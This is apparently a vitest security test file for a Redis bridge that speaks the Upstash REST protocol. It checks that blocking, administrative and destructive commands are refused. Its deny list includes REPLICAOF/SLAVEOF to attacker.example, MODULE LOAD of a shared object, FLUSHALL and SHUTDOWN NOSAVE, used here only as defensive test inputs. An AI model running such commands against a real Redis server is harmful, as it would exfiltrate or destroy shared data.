// The local Redis bridge (scripts/redis-bridge.ts) is the Upstash REST protocol in front of a real
// Redis. An attacker holding the bridge's token (or a bug in a caller) must not get more than
// Upstash gives: no blocking commands that park a connection (BLPOP, XREAD BLOCK, WAIT), no
// administrative commands (CONFIG, KEYS, DEBUG, SHUTDOWN, …), and no single slow command holding
// up everyone else's requests. Refusals are Upstash's error shape, 400 {"error"}.
//
// The Redis server is shared with other runs: nothing here may change its state. Commands that
// would (SHUTDOWN, CONFIG SET, DEBUG SLEEP, FLUSHALL) are only checked against the bridge's
// command filter, never sent; what is sent over HTTP is harmless even to a bridge that runs it.
import { randomBytes, randomUUID } from "node:crypto";
import { once } from "node:events";
import { createServer, connect, type AddressInfo, type Server, type Socket } from "node:net";
import { Redis as IORedis } from "ioredis";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { commandProblem, startRedisBridge, type RedisBridge } from "../../scripts/redis-bridge.js";
import { REDIS_URL } from "../helpers/redis.js";

const token = randomBytes(24).toString("base64url");
const prefix = `redis-bridge-security:${randomUUID()}:`;

async function post(bridge: RedisBridge, path: string, body: unknown, signal?: AbortSignal) {
  const res = await fetch(bridge.url + path, {
    method: "POST",
    headers: { Authorization: `Bearer ${token}`, "Content-Type": "application/json" },
    body: JSON.stringify(body),
    ...(signal ? { signal } : {}),
  });
  return { status: res.status, body: (await res.json()) as unknown };
}

/**
 * A TCP relay to the real Redis that stands for a command Redis takes long to answer: once a
 * connection's traffic carries `marker`, the relay holds that connection (nothing more passes
 * either way), as a connection parked behind a slow reply is held. Other connections flow.
 */
async function startStallingRelay(
  marker: string,
): Promise<{ url: string; holding: Promise<void>; close(): Promise<void> }> {
  const target = new URL(REDIS_URL);
  const sockets = new Set<Socket>();
  let holding!: () => void;
  const markerSeen = new Promise<void>((resolve) => (holding = resolve));
  const server: Server = createServer((client) => {
    const upstream = connect({ host: target.hostname, port: Number(target.port || 6379) });
    sockets.add(client).add(upstream);
    let held = false;
    client.on("data", (chunk: Buffer) => {
      if (chunk.includes(marker)) {
        held = true;
        holding();
      }
      if (!held) upstream.write(chunk);
    });
    upstream.on("data", (chunk: Buffer) => {
      if (!held) client.write(chunk);
    });
    const end = () => {
      client.destroy();
      upstream.destroy();
    };
    client.on("close", end).on("error", end);
    upstream.on("close", end).on("error", end);
  });
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  return {
    url: `redis://127.0.0.1:${(server.address() as AddressInfo).port}`,
    holding: markerSeen,
    async close() {
      for (const socket of sockets) socket.destroy();
      await new Promise((resolve) => server.close(resolve));
    },
  };
}

let bridge: RedisBridge;

beforeAll(async () => {
  bridge = await startRedisBridge({ redisUrl: REDIS_URL, token, port: 0 });
});
afterAll(async () => {
  await bridge?.close();
  const direct = new IORedis(REDIS_URL);
  const keys = await direct.keys(`${prefix}*`);
  if (keys.length > 0) await direct.del(...keys);
  await direct.quit();
});

describe("the Redis bridge refuses what Upstash refuses", () => {
  it("answers BLPOP with 400 at once instead of parking a connection", async () => {
    const started = Date.now();
    const res = await post(bridge, "/", ["BLPOP", `${prefix}empty-list`, 2]);
    expect(res).toMatchObject({ status: 400, body: { error: expect.stringMatching(/^ERR .*blpop/i) } });
    expect(Date.now() - started).toBeLessThan(1_000);
  });

  it("answers CONFIG GET, KEYS and XREAD BLOCK with 400, alone or in a pipeline or transaction", async () => {
    for (const command of [
      ["CONFIG", "GET", "maxmemory"],
      ["KEYS", `${prefix}*`],
      ["XREAD", "BLOCK", "100", "STREAMS", `${prefix}stream`, "$"],
      ["WAIT", "1", "100"],
    ]) {
      for (const [path, body] of [
        ["/", command],
        ["/pipeline", [["PING"], command]],
        ["/multi-exec", [["PING"], command]],
      ] as const) {
        const res = await post(bridge, path, body);
        expect(res, `${path} ${command.join(" ")}`).toEqual({
          status: 400,
          body: { error: expect.stringMatching(/^ERR /) },
        });
      }
    }
  });

  it("refuses a pipeline with a refused command before running any of it", async () => {
    const k = `${prefix}not-written`;
    expect(
      (
        await post(bridge, "/pipeline", [
          ["SET", k, "1"],
          ["CONFIG", "GET", "port"],
        ])
      ).status,
    ).toBe(400);
    expect((await post(bridge, "/", ["EXISTS", k])).body).toEqual({ result: 0 });
  });

  it.each(
    [
      ["BLPOP", "k", "0"],
      ["BRPOP", "k", "0"],
      ["BLMOVE", "a", "b", "LEFT", "LEFT", "0"],
      ["BRPOPLPUSH", "a", "b", "0"],
      ["BZPOPMIN", "k", "0"],
      ["BZPOPMAX", "k", "0"],
      ["BLMPOP", "0", "1", "k", "LEFT"],
      ["BZMPOP", "0", "1", "k", "MIN"],
      ["XREAD", "BLOCK", "0", "STREAMS", "s", "$"],
      ["XREADGROUP", "GROUP", "g", "c", "BLOCK", "0", "STREAMS", "s", ">"],
      ["WAIT", "1", "0"],
      ["WAITAOF", "1", "1", "0"],
      ["SUBSCRIBE", "c"],
      ["PSUBSCRIBE", "*"],
      ["MONITOR"],
      ["CONFIG", "SET", "maxmemory", "1"],
      ["CONFIG", "GET", "*"],
      ["DEBUG", "SLEEP", "10"],
      ["SHUTDOWN", "NOSAVE"],
      ["SLAVEOF", "attacker.example", "6379"],
      ["REPLICAOF", "attacker.example", "6379"],
      ["MIGRATE", "h", "1", "k", "0", "1"],
      ["ACL", "LIST"],
      ["MODULE", "LOAD", "/tmp/x.so"],
      ["CLIENT", "KILL", "TYPE", "normal"],
      ["CLIENT", "LIST"],
      ["KEYS", "*"],
      ["FLUSHALL"],
      ["FLUSHDB"],
      ["SAVE"],
      ["BGSAVE"],
      ["BGREWRITEAOF"],
      ["SYNC"],
      ["PSYNC", "?", "-1"],
      ["SCRIPT", "FLUSH"],
      ["SCRIPT", "KILL"],
      ["FUNCTION", "FLUSH"],
      ["SELECT", "1"],
      ["MULTI"],
      ["SWAPDB", "0", "1"],
    ].map((command) => [command.join(" "), command] as const),
  )("refuses %s", (_name, command) => {
    expect(commandProblem(command)).toEqual(expect.stringMatching(/^ERR /));
  });

  it.each(
    [
      ["GET", "k"],
      ["SET", "k", "v", "PX", "1000", "NX"],
      ["GETDEL", "k"],
      ["MGET", "a", "b"],
      ["INCR", "k"],
      ["DEL", "k"],
      ["PEXPIRE", "k", "1"],
      ["PTTL", "k"],
      ["EXISTS", "k"],
      ["HSET", "h", "f", "v"],
      ["HGETALL", "h"],
      ["ZADD", "z", "1", "m"],
      ["EVAL", "return 1", "0"],
      ["EVALSHA", "0".repeat(40), "0"],
      ["SCRIPT", "LOAD", "return 1"],
      ["SCRIPT", "EXISTS", "0".repeat(40)],
      ["XREAD", "COUNT", "1", "STREAMS", "s", "0"],
      ["PING"],
      ["scan", "0"],
    ].map((command) => [command.join(" "), command] as const),
  )("still runs the data command %s", (_name, command) => {
    expect(commandProblem(command)).toBeNull();
  });

  it("still runs EVAL, as Upstash does (the auth tier's Lua scripts)", async () => {
    expect((await post(bridge, "/", ["EVAL", "return ARGV[1]", 0, "lua"])).body).toEqual({ result: "lua" });
  });
});

describe("no single command stalls the rest", () => {
  it("answers another client's GET while one command waits on a slow reply, and times that one out", async () => {
    const marker = `${prefix}slow:${randomUUID()}`;
    const relay = await startStallingRelay(marker);
    const slowBridge = await startRedisBridge({ redisUrl: relay.url, token, port: 0, commandTimeoutMs: 1_500 });
    try {
      const k = `${prefix}fast`;
      expect((await post(slowBridge, "/", ["SET", k, "still here", "PX", 60_000])).body).toEqual({ result: "OK" });
      const slow = post(slowBridge, "/", ["GET", marker]);
      // The slow command is on its connection, and that connection is held, before the other client asks.
      await relay.holding;
      const started = Date.now();
      const fast = await post(slowBridge, "/", ["GET", k], AbortSignal.timeout(1_000));
      expect(fast).toMatchObject({ status: 200, body: { result: "still here" } });
      expect(Date.now() - started).toBeLessThan(1_000);
      // The held command gets an answer in Upstash's error shape, not a hang.
      expect(await slow).toMatchObject({ status: 504, body: { error: expect.stringMatching(/^ERR .*timed out/) } });
      // And the bridge keeps working afterwards.
      expect((await post(slowBridge, "/", ["GET", k])).body).toEqual({ result: "still here" });
    } finally {
      await slowBridge.close();
      await relay.close();
    }
  });
});
